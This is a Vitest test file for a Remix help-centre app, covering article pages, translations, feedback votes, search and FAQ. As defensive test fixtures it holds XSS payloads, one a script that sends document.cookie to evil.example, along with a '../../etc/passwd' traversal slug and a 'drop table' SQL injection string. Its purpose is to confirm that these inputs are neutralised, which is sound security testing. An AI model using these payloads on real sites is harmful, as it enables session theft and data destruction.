import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import path from "node:path";

import type { AppLoadContext } from "@remix-run/node";
import { sql } from "kysely";
import { afterAll, beforeAll, describe, expect, it } from "vitest";

import { ContentError, seedKnowledgeBase } from "../../db/seed/kb";
import type { FeedbackActionData } from "~/domain/help/schemas";
import { hashVisitorId } from "~/lib/visitor.server";
import { loader as faqLoader } from "~/routes/faq";
import { loader as homeLoader } from "~/routes/help._index";
import { action as articleAction, loader as articleLoader } from "~/routes/help.articles.$slug";
import { loader as categoryLoader } from "~/routes/help.categories.$category";
import { loader as searchLoader } from "~/routes/help.search";
import { useTestDatabase } from "../support/test-database";

const database = useTestDatabase();
const context = {} as AppLoadContext;
const BROWSER = "Mozilla/5.0 (X11; Linux x86_64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/126.0 Safari/537.36";
const LANGUAGE: Record<string, string> = { en: "en-GB", ms: "ms-MY", "zh-Hans": "zh-CN", "zh-Hant": "zh-TW" };

function request(url: string, { locale = "en", cookie, headers = {} }: { locale?: string; cookie?: string; headers?: Record<string, string> } = {}) {
  return new Request(`http://localhost${url}`, {
    headers: { "Accept-Language": LANGUAGE[locale]!, "User-Agent": BROWSER, ...(cookie ? { Cookie: cookie } : {}), ...headers },
  });
}

function post(url: string, form: Record<string, string>, { cookie, headers = {} }: { cookie?: string; headers?: Record<string, string> } = {}) {
  return new Request(`http://localhost${url}`, {
    method: "POST",
    body: new URLSearchParams(form),
    headers: { "Content-Type": "application/x-www-form-urlencoded", ...(cookie ? { Cookie: cookie } : {}), ...headers },
  });
}

async function status(promise: Promise<unknown>): Promise<number> {
  try {
    await promise;
    return 200;
  } catch (thrown) {
    if (thrown instanceof Response) return thrown.status;
    throw thrown;
  }
}

interface ActionResult {
  data: FeedbackActionData;
  init: ResponseInit | null;
}

async function vote(slug: string, form: Record<string, string>, cookie?: string) {
  const result = (await articleAction({ request: post(`/help/articles/${slug}`, form, { cookie }), params: { slug }, context })) as unknown as ActionResult;
  const setCookie = new Headers(result.init?.headers).get("Set-Cookie");
  return { ...result, cookie: setCookie ? setCookie.split(";")[0]! : cookie };
}

async function feedbackRows(slug: string) {
  return database.db
    .selectFrom("kbFeedback as f")
    .innerJoin("kbArticles as a", "a.id", "f.articleId")
    .select(["f.visitorHash", "f.helpful", "f.comment"])
    .where("a.slug", "=", slug)
    .where("a.locale", "=", "en")
    .orderBy("f.id")
    .execute();
}

const HOSTILE = `---
title: "Hostile: <script>alert('title')</script>"
summary: Summary with <img src=x onerror=alert(1)>
category: troubleshooting
keywords: hostile, xss
updated: 2026-11-20
---

Read this <script>document.location='https://evil.example/?c='+document.cookie</script> carefully.

<img src=x onerror="alert(1)"> <iframe src="https://evil.example"></iframe>

[Click me](javascript:alert(1)) and [me too](JAVASCRIPT:alert(2)) and <a href="jav&#x09;ascript:alert(3)" onclick="alert(4)">me</a>.

## Safe section

<div style="position:fixed" onmouseover="alert(5)">Hover</div>
`;

let contentDir: string;

beforeAll(async () => {
  await seedKnowledgeBase(database.db, { contentDir: path.resolve("content") });
  // A second content folder holding one hostile article, in English only.
  contentDir = mkdtempSync(path.join(tmpdir(), "c365-kb-"));
  for (const locale of ["en", "ms", "zh-Hans", "zh-Hant"]) mkdirSync(path.join(contentDir, "kb", locale), { recursive: true });
  writeFileSync(path.join(contentDir, "kb", "en", "hostile-article.md"), HOSTILE);
  await seedKnowledgeBase(database.db, { contentDir });
});

afterAll(() => {
  rmSync(contentDir, { recursive: true, force: true });
});

describe("an article page", () => {
  it("shows the article in the reader's language with its contents, date and related articles", async () => {
    const data = await articleLoader({ request: request("/help/articles/how-renewal-works", { locale: "ms" }), params: { slug: "how-renewal-works" }, context });
    expect(data.article.title).toBe("Cara pembaharuan berfungsi");
    expect(data.article.lang).toBe("ms");
    expect(data.isFallback).toBe(false);
    expect(data.article.toc.map((entry) => entry.text)).toEqual([
      "Garis masa pembaharuan",
      "Peringatan yang kami hantar",
      "Memperbaharui dalam empat langkah",
    ]);
    expect(data.article.toc.every((entry) => data.article.html.includes(`id="${entry.id}"`))).toBe(true);
    expect(data.article.updatedLabel).toBe("25 November 2026");
    expect(data.related.length).toBeGreaterThan(0);
    expect(data.related.map((r) => r.slug)).not.toContain("how-renewal-works");
    expect(data.feedback).toEqual({ vote: null, summary: { helpful: 0, total: 0 } });
    expect(data.meta.title).toBe("Cara pembaharuan berfungsi · Pusat bantuan");
  });

  it("formats the date for each language", async () => {
    const hant = await articleLoader({ request: request("/help/articles/auto-renew", { locale: "zh-Hant" }), params: { slug: "auto-renew" }, context });
    expect(hant.article.updatedLabel).toBe("2026年11月25日");
  });

  it("counts a reader's view once, and not a prefetch or a crawler", async () => {
    const views = async () =>
      (
        await database.db
          .selectFrom("kbArticles")
          .select("views")
          .where("slug", "=", "sign-in-links")
          .where("locale", "=", "en")
          .executeTakeFirstOrThrow()
      ).views;
    const before = await views();
    const args = (headers: Record<string, string>) => ({
      request: request("/help/articles/sign-in-links", { headers }),
      params: { slug: "sign-in-links" },
      context,
    });
    await articleLoader(args({}));
    await articleLoader(args({ "Sec-Purpose": "prefetch" }));
    await articleLoader(args({ "User-Agent": "Mozilla/5.0 (compatible; bingbot/2.0; +http://www.bing.com/bingbot.htm)" }));
    expect(await views()).toBe(before + 1);
  });

  it("is a 404 for an unknown, malformed or unpublished slug", async () => {
    await database.db.updateTable("kbArticles").set({ published: false }).where("slug", "=", "auto-renew").where("locale", "=", "en").execute();
    for (const slug of ["no-such-article", "../../etc/passwd", "Auto-Renew", "x".repeat(500), "auto-renew"]) {
      expect(await status(articleLoader({ request: request(`/help/articles/${encodeURIComponent(slug)}`), params: { slug }, context })), slug).toBe(404);
    }
    // Unpublished in English only: the Malay translation is still readable.
    const ms = await articleLoader({ request: request("/help/articles/auto-renew", { locale: "ms" }), params: { slug: "auto-renew" }, context });
    expect(ms.article.lang).toBe("ms");
  });
});

describe("an article without a translation", () => {
  it("is shown in English, marked as a fallback, to readers of other languages", async () => {
    const data = await articleLoader({ request: request("/help/articles/hostile-article", { locale: "zh-Hans" }), params: { slug: "hostile-article" }, context });
    expect(data.isFallback).toBe(true);
    expect(data.article.lang).toBe("en");
    const category = await categoryLoader({ request: request("/help/categories/troubleshooting", { locale: "zh-Hans" }), params: { category: "troubleshooting" }, context });
    expect(category.articles.find((a) => a.slug === "hostile-article")?.lang).toBe("en");
    expect(category.articles.filter((a) => a.lang === undefined)).toHaveLength(3);
  });
});

describe("a hostile article body", () => {
  it("is stored and served inert: no script, handler, frame, style or script URL survives", async () => {
    const data = await articleLoader({ request: request("/help/articles/hostile-article"), params: { slug: "hostile-article" }, context });
    const { html } = data.article;
    expect(html).not.toMatch(/<script|<iframe|<img|<div|onerror|onclick|onmouseover|style=|javascript:|evil\.example|document\.cookie/i);
    expect(html).toContain("Read this");
    expect(html).toContain("carefully.");
    expect(html).toContain('<h2 id="kb-safe-section">Safe section</h2>');
    // Title and summary are rendered by React as text; here they are just strings.
    expect(data.article.title).toBe("Hostile: <script>alert('title')</script>");
  });

  it("gives search snippets as text parts (React escapes them), with the body's markup gone", async () => {
    const result = await searchLoader({ request: request("/help/search?q=hostile+carefully"), params: {}, context });
    expect(result.hits[0]?.slug).toBe("hostile-article");
    const parts = result.hits[0]!.snippet;
    expect(parts.every((part) => typeof part.text === "string" && typeof part.mark === "boolean")).toBe(true);
    const text = parts.map((part) => part.text).join("");
    // The summary is plain text and stays as typed; the body's tags are stripped.
    expect(text.startsWith("Summary with <img src=x onerror=alert(1)> Read this")).toBe(true);
    expect(text).not.toMatch(/<script|<iframe|<div|javascript:/i);
    expect(parts.filter((part) => part.mark).map((part) => part.text)).toContain("carefully");
  });

  it("names the file when its front matter is broken", async () => {
    const broken = mkdtempSync(path.join(tmpdir(), "c365-kb-broken-"));
    try {
      for (const locale of ["en", "ms", "zh-Hans", "zh-Hant"]) mkdirSync(path.join(broken, "kb", locale), { recursive: true });
      writeFileSync(path.join(broken, "kb", "ms", "bad-article.md"), "---\ntitle: A\ncategory: astrology\nupdated: 2026-11-20\n---\nBody");
      await expect(seedKnowledgeBase(database.db, { contentDir: broken })).rejects.toThrow(ContentError);
      await expect(seedKnowledgeBase(database.db, { contentDir: broken })).rejects.toThrow(/kb\/ms\/bad-article\.md: unknown category astrology/);
    } finally {
      rmSync(broken, { recursive: true, force: true });
    }
  });
});

describe("“Was this helpful?”", () => {
  it("takes one vote per visitor: a second answer replaces the first", async () => {
    const first = await vote("multi-year-terms", { intent: "vote", helpful: "yes" });
    expect(first.data).toEqual({ ok: true, vote: { helpful: true, hasComment: false }, summary: { helpful: 1, total: 1 } });
    expect(first.cookie).toMatch(/^c365_visitor=/);

    const again = await vote("multi-year-terms", { intent: "vote", helpful: "yes" }, first.cookie);
    expect(again.data).toEqual({ ok: true, vote: { helpful: true, hasComment: false }, summary: { helpful: 1, total: 1 } });
    expect(new Headers(again.init?.headers).get("Set-Cookie"), "no new cookie for a known visitor").toBeNull();

    const changed = await vote("multi-year-terms", { intent: "vote", helpful: "no" }, first.cookie);
    expect(changed.data).toEqual({ ok: true, vote: { helpful: false, hasComment: false }, summary: { helpful: 0, total: 1 } });

    const someoneElse = await vote("multi-year-terms", { intent: "vote", helpful: "yes" });
    expect(someoneElse.data).toMatchObject({ ok: true, summary: { helpful: 1, total: 2 } });
    expect(await feedbackRows("multi-year-terms")).toHaveLength(2);

    // The page remembers the visitor's answer.
    const page = await articleLoader({ request: request("/help/articles/multi-year-terms", { cookie: first.cookie }), params: { slug: "multi-year-terms" }, context });
    expect(page.feedback).toEqual({ vote: { helpful: false, hasComment: false }, summary: { helpful: 1, total: 2 } });
  });

  it("stores only a hash of the visitor id", async () => {
    const { cookie } = await vote("quote-validity-and-price-lock", { intent: "vote", helpful: "yes" });
    const rows = await feedbackRows("quote-validity-and-price-lock");
    expect(rows).toHaveLength(1);
    expect(rows[0]!.visitorHash).toMatch(/^[0-9a-f]{64}$/);
    expect(cookie).not.toContain(rows[0]!.visitorHash);
    const [{ count }] = await sql<{ count: number }>`
      select count(*)::int as count from kb_feedback where visitor_hash like '%' || ${cookie!.split("=")[1]!.slice(0, 10)} || '%'`
      .execute(database.db)
      .then((r) => r.rows as [{ count: number }]);
    expect(count).toBe(0);
    expect(hashVisitorId("x")).not.toBe(rows[0]!.visitorHash);
  });

  it("adds a comment to the visitor's vote, stored as plain text", async () => {
    const { cookie } = await vote("add-ons-explained", { intent: "vote", helpful: "no" });
    const hostile = `<script>alert(1)</script>'); drop table kb_feedback; --`;
    const commented = await vote("add-ons-explained", { intent: "comment", comment: hostile }, cookie);
    expect(commented.data).toEqual({ ok: true, vote: { helpful: false, hasComment: true }, summary: { helpful: 0, total: 1 } });
    expect(await feedbackRows("add-ons-explained")).toEqual([expect.objectContaining({ helpful: false, comment: hostile })]);
  });

  it("refuses bad input with a message and changes nothing", async () => {
    const before = await feedbackRows("exporting-your-data");
    const cases: Array<[Record<string, string>, Record<string, string>]> = [
      [{ intent: "vote" }, { helpful: "help:feedback.errors.choose" }],
      [{ intent: "vote", helpful: "maybe" }, { helpful: "help:feedback.errors.choose" }],
      [{ intent: "hack" }, { form: "help:feedback.errors.choose" }],
      [{ intent: "vote", helpful: "yes", comment: "x".repeat(1001) }, { comment: "help:feedback.errors.commentTooLong" }],
      [{ intent: "comment", comment: "   " }, { comment: "help:feedback.errors.commentEmpty" }],
      [{ intent: "comment", comment: "I never voted" }, { helpful: "help:feedback.errors.voteFirst" }],
    ];
    for (const [form, errors] of cases) {
      const result = await vote("exporting-your-data", form);
      expect(result.init?.status, JSON.stringify(form)).toBe(400);
      expect(result.data).toEqual({ ok: false, errors });
    }
    expect(await feedbackRows("exporting-your-data")).toEqual(before);
  });

  it("refuses an oversized post unread, and a vote on an unknown article", async () => {
    const huge = post("/help/articles/exporting-your-data", { intent: "vote", helpful: "yes" }, { headers: { "Content-Length": "100000" } });
    expect(await status(articleAction({ request: huge, params: { slug: "exporting-your-data" }, context }))).toBe(413);
    const unknown = post("/help/articles/nope", { intent: "vote", helpful: "yes" });
    expect(await status(articleAction({ request: unknown, params: { slug: "nope" }, context }))).toBe(404);
  });
});

describe("the other help pages", () => {
  it("home: every topic with its article count, and popular articles", async () => {
    const data = await homeLoader({ request: request("/help", { locale: "zh-Hant" }), params: {}, context });
    expect(data.categories.map((c) => c.category)).toEqual([
      "renewals-billing",
      "getting-started",
      "using-the-product",
      "troubleshooting",
      "account-security",
    ]);
    // The 31 translated articles plus the English-only one.
    expect(data.categories.reduce((sum, c) => sum + c.articles, 0)).toBe(32);
    expect(data.popular).toHaveLength(6);
    expect(data.meta.title).toBe("說明中心 · Customer365");
  });

  it("a topic lists its articles in the reader's alphabetical order; an unknown topic is a 404", async () => {
    const data = await categoryLoader({ request: request("/help/categories/account-security"), params: { category: "account-security" }, context });
    const titles = data.articles.map((a) => a.title);
    expect(titles).toEqual([...titles].sort((a, b) => a.localeCompare(b, "en")));
    expect(titles.length).toBe(3);
    for (const category of ["astrology", "RENEWALS-BILLING", ""]) {
      expect(await status(categoryLoader({ request: request(`/help/categories/${category}`), params: { category }, context }))).toBe(404);
    }
  });

  it("search: reads q from the URL, whatever its size or content", async () => {
    const long = await searchLoader({ request: request(`/help/search?q=${encodeURIComponent("invoice ".repeat(1300))}`), params: {}, context });
    expect(long.hits[0]?.slug).toBe("invoices-and-receipts");
    const none = await searchLoader({ request: request("/help/search"), params: {}, context });
    expect(none.problem).toBe("empty");
    const twice = await searchLoader({ request: request("/help/search?q=a&q=b"), params: {}, context });
    expect(twice.problem).toBe("too_short");
    const hostile = await searchLoader({ request: request(`/help/search?q=${encodeURIComponent("<script>alert(1)</script>")}`), params: {}, context });
    expect(hostile.query).toBe("<script>alert(1)</script>");
  });

  it("FAQ: every question in the reader's language, linked to its article's title", async () => {
    const data = await faqLoader({ request: request("/faq", { locale: "zh-Hans" }), params: {}, context });
    expect(data.entries).toHaveLength(15);
    expect(data.entries[0]).toMatchObject({ id: "when-can-i-renew", article: { slug: "how-renewal-works", title: "续订流程说明" } });
    expect(data.entries.every((e) => e.article !== null)).toBe(true);
  });
});
